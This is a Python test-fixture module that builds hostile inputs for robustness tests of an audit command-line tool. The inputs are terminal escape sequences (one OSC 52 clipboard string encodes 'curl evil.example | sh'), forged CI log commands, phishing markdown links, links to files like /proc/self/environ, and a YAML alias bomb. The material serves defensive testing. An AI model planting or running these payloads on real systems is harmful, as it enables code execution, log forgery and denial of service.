"""The hostile corpus, generated: what a student's submission, a pull request or a shared file may hold.

Nothing here is checked in as data: every hostile file is built by these functions inside a test's
temporary folder (FIFOs, symlinks, hard links, alias amplifiers, include graphs, numbers, escapes),
from the mini project in ``tests/fixtures/mini``. Each test module of ``tests/hostile`` covers one
class of issue #12; ``test_fuzz.py`` mutates the same project at random.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import yaml

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
MINI = FIXTURES / "mini"

# --- text that tries to drive a terminal, forge CI log lines or lie ----------------------------------------

ESC = "\x1b"
#: Text from a file that would drive a terminal or a CI runner if printed as it is.
TERMINAL_ATTACKS = {
    "ansi-colour": "\x1b[31mRED\x1b[0m",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc8-hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "c1-csi": "\x9b31mC1",
    "bidi-override": "evil\u202egnp.exe",
    "clear-screen": "\x1b[2J\x1b[H",
    "bell-backspace": "ok\x07\x08\x08\x08\x08FAKE",
    "carriage-return": "real\rFORGED",
}
#: Text that would become a CI workflow command or a forged log line if it reached a line start.
LOG_ATTACKS = {
    "newline-command": "x\n::error file=src/app.py,line=1::forged annotation",
    "newline-add-mask": "x\n::add-mask::secret",
    "stop-commands": "x\n::stop-commands::pwned",
    "legacy-command": "x\n##[error]legacy forged",
    "azure-command": "x\n##vso[task.setvariable variable=X]1",
    "percent-escape": "x%0A::error::percent-encoded newline",
    "line-separator": "x\u2028::error::unicode line separator",
}
#: Markdown that would put a link, an image, a mention or raw HTML into a job summary or a PR comment.
MARKDOWN_ATTACKS = {
    "inline-link": "[click here](https://evil.example/phish)",
    "image": "![tracker](https://evil.example/pixel.png)",
    "autolink": "see https://evil.example/login now",
    "www-autolink": "visit www.evil.example today",
    "angle-autolink": "<https://evil.example>",
    "email": "mail boss@evil.example",
    "mention": "ping @octocat and @org/admins",
    "issue-ref": "fixes #1",
    "raw-html": '<img src="https://evil.example/x.png"><a href="https://evil.example">x</a>',
    "table-break": "a | b | c",
    "reference-link": "[x][1]\n\n[1]: https://evil.example",
}
#: Notes that look filled in but say nothing.
EMPTY_NOTES = {
    "zero-width-space": "\u200b\u200b\u200b",
    "zero-width-joiners": "\u200c\u200d\u2060\ufeff",
    "hangul-filler": "\u3164\u3164",
    "braille-blank": "\u2800\u2800\u2800",
    "whitespace": " \t\u3000\u00a0 ",
    "tag-characters": "\U000e0041\U000e0042",
    "bidi-marks": "\u200e\u200f\u202a\u202c",
}
PLACEHOLDER_NOTES = ["N/A", "n/a.", "-", "...", "TBD", "todo", "none", "해당 없음", "없음", "\u200bN/A\u200b"]


# --- the project ----------------------------------------------------------------------------------------


def project(root: Path, name: str = "mini") -> Path:
    """A writable copy of the mini project (audit, checklist, evidence) in ``root/name``."""
    dest = root / name
    shutil.copytree(MINI, dest)
    return dest


def audit_data(folder: Path) -> dict:
    return yaml.safe_load((folder / "audit.yaml").read_text(encoding="utf-8"))


def write_audit(folder: Path, data: dict, name: str = "audit.yaml") -> Path:
    path = folder / name
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def edit_audit(folder: Path, change) -> Path:
    """Load the audit's data, let ``change(data)`` edit it, write it back."""
    data = audit_data(folder)
    change(data)
    return write_audit(folder, data)


# --- special files and links ----------------------------------------------------------------------------


def fifo(path: Path) -> Path:
    """A named pipe: reading it without a writer blocks forever."""
    os.mkfifo(path)
    return path


def symlink(path: Path, target: str | Path) -> Path:
    path.symlink_to(target)
    return path


SYSTEM_FILES = ["/dev/zero", "/dev/urandom", "/proc/self/environ", "/proc/self/cmdline", "/sys/kernel/notes"]


# --- amplification ----------------------------------------------------------------------------------------


def alias_amplifier(text_chars: int = 200_000, copies: int = 200) -> str:
    """YAML whose few anchors expand to ``text_chars × copies`` characters of text (few nodes, huge text)."""
    long = "A" * text_chars
    refs = ", ".join(["*t"] * copies)
    return f"kind: audit\nformat: 1\nlong: &t {long}\nmany: [{refs}]\n"


def include_diamonds(folder: Path, levels: int) -> Path:
    """Checklists ``d0 … d{levels}``: each includes ``l{n}`` and ``r{n}``, both include ``d{n+1}``.

    Resolved naively this is 2**levels loads; memoised, 3 per level.
    """

    def checklist(cid: str, includes: list[str], items: bool) -> str:
        text = f"kind: checklist\nid: {cid}\nversion: 1.0.0\ntitle: {{en: T, ko: 티}}\ndescription: {{en: D, ko: 디}}\n"
        if includes:
            text += "include:\n" + "".join(f"  - {{checklist: {c}}}\n" for c in includes)
        if items:
            text += (
                "sections:\n  - id: s\n    principle: safety\n    title: {en: S, ko: 에스}\n    items:\n"
                f"      - id: {cid.upper()}-1\n        question: {{en: Q, ko: 질}}\n        guidance: {{en: G, ko: 안}}\n"
                "        severity: low\n        refs: [OWASP-LLM01]\n        remediation: {en: R, ko: 개}\n"
            )
        return text

    for n in range(levels):
        (folder / f"d{n}.yaml").write_text(checklist(f"d{n}", [f"l{n}", f"r{n}"], False), encoding="utf-8")
        (folder / f"l{n}.yaml").write_text(checklist(f"l{n}", [f"d{n + 1}"], False), encoding="utf-8")
        (folder / f"r{n}.yaml").write_text(checklist(f"r{n}", [f"d{n + 1}"], False), encoding="utf-8")
    (folder / f"d{levels}.yaml").write_text(checklist(f"d{levels}", [], True), encoding="utf-8")
    return folder / "d0.yaml"


def include_chain(folder: Path, length: int) -> Path:
    """Checklists ``c0 → c1 → … → c{length}``, each including the next."""
    head = "version: 1.0.0\ntitle: {en: T, ko: 티}\ndescription: {en: D, ko: 디}\n"
    for n in range(length):
        text = f"kind: checklist\nid: c{n}\n{head}include:\n  - {{checklist: c{n + 1}}}\n"
        (folder / f"c{n}.yaml").write_text(text, encoding="utf-8")
    last = (
        f"kind: checklist\nid: c{length}\n{head}sections:\n  - id: s\n    principle: safety\n    title: {{en: S, ko: 에스}}\n"
        "    items:\n      - id: END-1\n        question: {en: Q, ko: 질}\n        guidance: {en: G, ko: 안}\n"
        "        severity: low\n        refs: [OWASP-LLM01]\n        remediation: {en: R, ko: 개}\n"
    )
    (folder / f"c{length}.yaml").write_text(last, encoding="utf-8")
    return folder / "c0.yaml"


#: Numbers outside sane ranges, as YAML text.
BAD_NUMBERS = {
    "huge-int": "1" * 5000,
    "huge-negative-int": "-" + "9" * 30,
    "int-past-64-bits": str(2**64),
    "huge-hex": "0x" + "f" * 5000,
    "hex-past-64-bits": "0x1" + "0" * 16,
    "huge-octal": "0o" + "7" * 40,
    "nan": ".nan",
    "inf": ".inf",
    "minus-inf": "-.inf",
    "float-overflow": "1e999",
}


# --- running the command line in a child process (for what could hang) ------------------------------------


def run_cli(*args: object, cwd: Path | None = None, timeout: float = 30, env: dict | None = None, stdin=None):
    """``python -m aiaudit ARGS`` in a child process that is killed after ``timeout`` seconds."""
    full_env = {**os.environ, "AIAUDIT_LANG": "en", "NO_COLOR": "1", **(env or {})}
    return subprocess.run(
        [sys.executable, "-m", "aiaudit", *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=timeout,
        env=full_env,
        stdin=stdin if stdin is not None else subprocess.DEVNULL,
    )
